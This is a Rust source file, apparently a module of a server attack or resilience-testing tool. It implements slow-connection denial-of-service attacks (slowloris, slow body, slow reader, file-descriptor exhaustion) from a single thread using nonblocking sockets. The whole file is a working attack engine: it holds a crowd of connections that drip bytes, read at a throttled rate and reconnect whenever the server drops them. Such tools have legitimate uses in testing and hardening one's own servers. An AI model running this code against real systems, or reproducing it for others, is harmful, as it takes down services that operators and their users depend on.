//! Many slow connections from one thread: the engine of slowloris, the slow
//! body, the slow reader and descriptor exhaustion. Each connection writes an
//! opening (a partial head, a whole head, pipelined requests), then one byte
//! of a drip every interval, and reads either everything that arrives
//! (discarding it) or a fixed number of bytes a second. When the server
//! closes one, it is opened again (within a global connect rate), so the
//! crowd keeps its size for as long as the server lets it.
//!
//! Nonblocking sockets on a mio `Poll`: its events say when a connect
//! completed and when bytes or a close arrived; the drips and the rated
//! reads run from a scan of all connections every tick.

use super::{AttackReport, Stop};
use mio::net::TcpStream;
use mio::{Events, Interest, Poll, Token};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use std::io::{self, Read, Write};
use std::net::SocketAddr;
use std::time::{Duration, Instant};

/// How often the drips and rated reads are checked.
const TICK: Duration = Duration::from_millis(50);

/// How the crowd reads what the server sends.
#[derive(Clone, Copy, Debug)]
pub enum Reading {
    /// Everything, as it arrives, thrown away.
    Discard,
    /// At most this many bytes a second per connection (a slow reader).
    PerSecond(usize),
}

/// One crowd: its size and what each connection does.
#[derive(Clone, Debug)]
pub struct CrowdSpec {
    /// The server.
    pub addr: SocketAddr,
    /// Connections to hold.
    pub connections: usize,
    /// Written as soon as a connection is open.
    pub opening: Vec<u8>,
    /// Then one byte of this every `drip_every`, cycling (empty: nothing more).
    pub drip: Vec<u8>,
    /// The interval between two drip bytes of one connection.
    pub drip_every: Duration,
    /// How what arrives is read.
    pub reading: Reading,
    /// `SO_RCVBUF` for each connection (`None`: the system's default).
    pub receive_buffer: Option<usize>,
    /// Most connects a second, first ones and reconnects together.
    pub connects_per_second: u32,
}

struct Conn {
    stream: TcpStream,
    connected: bool,
    opening_sent: usize,
    drip_at: usize,
    next_drip: Instant,
    next_read: Instant,
}

/// Runs the crowd until `stop`, then reports (and closes every connection).
///
/// # Errors
///
/// When the poll cannot be created.
pub fn run(spec: &CrowdSpec, stop: &Stop) -> io::Result<AttackReport> {
    let started = Instant::now();
    let mut poll = Poll::new()?;
    let mut events = Events::with_capacity(1024);
    let mut slots: Vec<Option<Conn>> = (0..spec.connections).map(|_| None).collect();
    let mut report = AttackReport::default();
    let mut connect_credit = 0.0f64;
    let mut last_credit = Instant::now();
    let mut next_scan = Instant::now();
    let mut chunk = vec![0u8; 64 * 1024];
    while !stop.is_set() {
        poll.poll(&mut events, Some(TICK))?;
        for event in events.iter() {
            let index = event.token().0;
            let Some(conn) = slots[index].as_mut() else {
                continue;
            };
            let mut alive = true;
            if !conn.connected && (event.is_writable() || event.is_error()) {
                alive = finish_connect(conn, spec, &mut report);
            }
            if alive && conn.connected && event.is_writable() {
                alive = write_opening(conn, spec, &mut report);
            }
            if alive && matches!(spec.reading, Reading::Discard) && event.is_readable() {
                alive = read_some(conn, &mut chunk, usize::MAX, &mut report);
            }
            if !alive || event.is_error() {
                close(&poll, &mut slots[index], &mut report);
            }
        }
        let now = Instant::now();
        connect_credit = (connect_credit
            + now.duration_since(last_credit).as_secs_f64() * f64::from(spec.connects_per_second))
        .min(f64::from(spec.connects_per_second) / 10.0 + 1.0);
        last_credit = now;
        if now >= next_scan {
            next_scan = now + TICK;
            for (index, slot) in slots.iter_mut().enumerate() {
                let alive = match slot {
                    None => {
                        if connect_credit >= 1.0 {
                            connect_credit -= 1.0;
                            *slot = open(&poll, index, spec, &mut report);
                        }
                        continue;
                    }
                    Some(conn) if conn.connected => tick(conn, spec, now, &mut chunk, &mut report),
                    // A connect still in flight: its event will tell.
                    Some(_) => true,
                };
                if !alive {
                    close(&poll, slot, &mut report);
                }
            }
        }
    }
    report.held = slots
        .iter()
        .filter(|slot| slot.as_ref().is_some_and(|c| c.connected))
        .count();
    report.seconds = started.elapsed().as_secs_f64();
    Ok(report)
}

/// Starts a nonblocking connect for slot `index`; `None` when it failed at once.
fn open(poll: &Poll, index: usize, spec: &CrowdSpec, report: &mut AttackReport) -> Option<Conn> {
    let opened = (|| -> io::Result<TcpStream> {
        let socket = Socket::new(
            Domain::for_address(spec.addr),
            Type::STREAM,
            Some(Protocol::TCP),
        )?;
        socket.set_nonblocking(true)?;
        if let Some(size) = spec.receive_buffer {
            // Before the connect, so that the window offered is small from the start.
            socket.set_recv_buffer_size(size)?;
        }
        socket.set_nodelay(true)?;
        match socket.connect(&SockAddr::from(spec.addr)) {
            Ok(()) => {}
            Err(e) if e.raw_os_error() == Some(libc::EINPROGRESS) => {}
            Err(e) => return Err(e),
        }
        Ok(TcpStream::from_std(socket.into()))
    })();
    let mut stream = match opened {
        Ok(stream) => stream,
        Err(_) => {
            report.connect_errors += 1;
            return None;
        }
    };
    let registered = poll.registry().register(
        &mut stream,
        Token(index),
        Interest::READABLE | Interest::WRITABLE,
    );
    if registered.is_err() {
        report.connect_errors += 1;
        return None;
    }
    let now = Instant::now();
    // Spread the drips of the crowd over the interval, so they do not all
    // fall on the same tick.
    let offset = spec
        .drip_every
        .mul_f64(index as f64 / spec.connections.max(1) as f64);
    Some(Conn {
        stream,
        connected: false,
        opening_sent: 0,
        drip_at: 0,
        next_drip: now + offset,
        next_read: now,
    })
}

/// A connect's outcome: `false` when it failed.
fn finish_connect(conn: &mut Conn, spec: &CrowdSpec, report: &mut AttackReport) -> bool {
    match (conn.stream.take_error(), conn.stream.peer_addr()) {
        (Ok(None), Ok(_)) => {
            conn.connected = true;
            report.connects += 1;
            conn.next_drip = conn.next_drip.max(Instant::now() + spec.drip_every / 2);
            true
        }
        _ => {
            report.connect_errors += 1;
            false
        }
    }
}

/// Writes what is left of the opening; `false` when the connection broke.
fn write_opening(conn: &mut Conn, spec: &CrowdSpec, report: &mut AttackReport) -> bool {
    while conn.opening_sent < spec.opening.len() {
        match conn.stream.write(&spec.opening[conn.opening_sent..]) {
            Ok(0) => return false,
            Ok(n) => {
                conn.opening_sent += n;
                report.bytes_sent += n as u64;
            }
            Err(e) if e.kind() == io::ErrorKind::WouldBlock => return true,
            Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
            Err(_) => return false,
        }
    }
    true
}

/// The periodic work of an open connection: the rest of its opening, its
/// drip byte when due, its rated read when due. `false` when it broke.
fn tick(
    conn: &mut Conn,
    spec: &CrowdSpec,
    now: Instant,
    chunk: &mut [u8],
    report: &mut AttackReport,
) -> bool {
    if !write_opening(conn, spec, report) {
        return false;
    }
    let opened = conn.opening_sent == spec.opening.len();
    if opened && !spec.drip.is_empty() && now >= conn.next_drip {
        conn.next_drip = now + spec.drip_every;
        let byte = spec.drip[conn.drip_at % spec.drip.len()];
        match conn.stream.write(&[byte]) {
            Ok(1) => {
                conn.drip_at += 1;
                report.bytes_sent += 1;
            }
            // A full send buffer: this drip is skipped.
            Err(e) if e.kind() == io::ErrorKind::WouldBlock => {}
            _ => return false,
        }
    }
    if let Reading::PerSecond(rate) = spec.reading {
        if now >= conn.next_read {
            conn.next_read = now + Duration::from_secs(1);
            return read_some(conn, chunk, rate, report);
        }
    }
    true
}

/// Reads until `WouldBlock` or `budget` bytes; `false` on a close or an error.
fn read_some(conn: &mut Conn, chunk: &mut [u8], budget: usize, report: &mut AttackReport) -> bool {
    let mut left = budget;
    while left > 0 {
        let want = left.min(chunk.len());
        match conn.stream.read(&mut chunk[..want]) {
            Ok(0) => return false,
            Ok(n) => {
                left -= n;
                report.bytes_read += n as u64;
            }
            Err(e) if e.kind() == io::ErrorKind::WouldBlock => return true,
            Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
            Err(_) => return false,
        }
    }
    true
}

/// Closes the connection in `slot` (the server closed it, or it broke); the
/// scan opens it again.
fn close(poll: &Poll, slot: &mut Option<Conn>, report: &mut AttackReport) {
    if let Some(mut conn) = slot.take() {
        if conn.connected {
            report.closed_by_server += 1;
        }
        // Dropping the stream closes it; a failed deregister changes nothing then.
        let _ = poll.registry().deregister(&mut conn.stream);
    }
}
